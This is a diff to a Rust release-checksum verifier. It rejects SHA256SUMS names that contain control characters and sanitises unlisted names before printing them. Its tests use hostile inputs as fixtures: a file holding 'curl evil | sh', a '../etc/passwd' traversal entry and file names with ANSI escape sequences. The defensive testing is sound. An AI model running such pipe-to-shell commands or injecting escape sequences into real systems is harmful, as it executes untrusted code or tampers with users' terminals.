@@ -15,6 +15,7 @@ use serde::Serialize;
 
 use crate::bundle::manifest::sha256_hex_reader;
 use crate::bundle::signing::{signature_key_id, IssuerKey};
+use crate::printable::{has_controls, printable};
 use crate::{Error, ErrorKind, Result};
 
 /// The checksum list of a release folder.
@@ -102,6 +103,7 @@ pub fn parse_sums(text: &str) -> Result<Vec<Listed>> {
             || name.contains(['/', '\\'])
             || name == SUMS_NAME
             || name == SIGNATURE_NAME
+            || has_controls(name)
         {
             return Err(bad(&format!("names {name:?}, which is not a file of the release folder")));
         }
@@ -153,7 +155,8 @@ impl Problem {
             Problem::Changed { name, actual, listed } => {
                 format!("{name}: changed since it was signed (its SHA-256 is {actual}, {SUMS_NAME} says {listed})")
             }
-            Problem::Unlisted(name) => format!("{name}: not listed in {SUMS_NAME}, so nothing vouches for it"),
+            // The folder's own names are not vouched for: no control character reaches the terminal.
+            Problem::Unlisted(name) => format!("{}: not listed in {SUMS_NAME}, so nothing vouches for it", printable(name)),
             Problem::Unreadable(name, e) => format!("{name}: could not be read ({e})"),
         }
     }
@@ -344,11 +347,13 @@ mod tests {
         let (dir, _, key) = release();
         fs::remove_file(dir.path().join("packplan.cdx.json")).unwrap();
         fs::write(dir.path().join("install-me.sh"), b"curl evil | sh").unwrap();
+        fs::write(dir.path().join("clear\u{1b}[2Jscreen"), b"").unwrap();
         fs::create_dir(dir.path().join("extras")).unwrap();
         let e = refused(dir.path(), &key);
         assert!(e.message().contains("packplan.cdx.json: listed in SHA256SUMS but missing"), "{e}");
         assert!(e.message().contains("install-me.sh: not listed in SHA256SUMS"), "{e}");
         assert!(e.message().contains("extras: not listed"), "{e}");
+        assert!(e.message().contains("clear[2Jscreen: not listed"), "no escape reaches the terminal: {e}");
     }
 
     #[test]
@@ -412,6 +417,7 @@ mod tests {
             (format!("{h}  ../etc/passwd\n"), "not a file of the release folder"),
             (format!("{h}  sub/a.deb\n"), "not a file of the release folder"),
             (format!("{h}  SHA256SUMS\n"), "not a file of the release folder"),
+            (format!("{h}  a\u{1b}[2J.deb\n"), "not a file of the release folder"),
             (format!("{h}  a.deb\n{h}  a.deb\n"), "a second time"),
             ("abc  a.deb\n".to_owned(), "64 hex digits"),
             ("nothing-here\n".to_owned(), "is not `<SHA-256>  <file name>`"),
